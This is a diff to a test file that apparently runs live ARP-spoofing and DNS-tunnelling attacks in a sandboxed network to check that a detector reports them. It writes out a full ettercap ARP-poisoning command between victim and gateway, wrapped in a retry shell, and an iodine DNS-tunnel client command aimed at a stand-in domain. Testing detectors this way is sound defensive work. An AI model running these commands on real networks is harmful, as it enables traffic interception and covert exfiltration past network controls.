@@ -57,18 +57,16 @@ describe('attacks on the local network, live', () => {
 
   test('ettercap between victim and gateway', { skip: missingTool('ettercap') }, async () => {
     keepTalking();
+    // On a loaded machine it may miss the answers to its own questions and give up.
+    const poison = `timeout --foreground 9 ettercap -T -q -i veth0 -M arp /${victim}// /${gateway}//`;
     await found({
       kind: 'arp_spoof',
+      tool: 'ettercap',
       command: [
-        'ettercap',
-        '-T',
-        '-q',
-        '-i',
-        'veth0',
-        '-M',
-        'arp',
-        `/${victim}//`,
-        `/${gateway}//`,
+        'setsid',
+        'bash',
+        '-c',
+        `trap 'kill -9 0' TERM; ${poison} & wait; ${poison} & wait`,
       ],
       source: attackerMac,
       runsOn: true,
@@ -103,6 +101,7 @@ describe('attacks on the local network, live', () => {
     const client = `iodine -f -r -P secret ${victim} t.example.org & sleep 4; ping -q -c 60 -i 0.1 -s 600 10.99.0.1; kill %1`;
     await found({
       kind: 'dns_tunnel',
+      tool: 'iodine',
       command: ['timeout', '25', 'bash', '-c', client],
       source: attacker,
       runsOn: true,
